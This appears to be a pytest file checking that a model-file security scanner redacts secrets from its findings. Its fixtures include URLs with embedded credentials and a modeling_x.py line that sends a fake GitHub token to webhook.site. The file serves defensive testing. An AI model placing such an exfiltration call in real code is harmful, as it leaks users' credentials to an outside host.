"""Secrets in what is named: no fact, no finding and no report shows them."""

import json

import pytest

from modelaudit.api import scan

TOKEN = "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"  # of GitHub's form, its checksum is right; made up
FILES = {
    "config.json": {
        "base_model": "https://svc:kq8RtZ2w@hub.acme.io/x",
        "auto_map": {"A": "https://svc:kq8RtZ2w@h.io/x--m.A"},
    },
    "modeling_x.py": f'import requests\nrequests.get("https://webhook.site/x?t={TOKEN}")\n',
}


@pytest.mark.parametrize("name", FILES)
def test_a_reference_shows_no_secret(tmp_path, name):
    text = FILES[name] if isinstance(FILES[name], str) else json.dumps(FILES[name])
    (tmp_path / name).write_text(text)
    document = scan([tmp_path])
    assert document.findings
    assert not [finding for finding in document.findings if "kq8RtZ2w" in repr(finding) or TOKEN in repr(finding)]
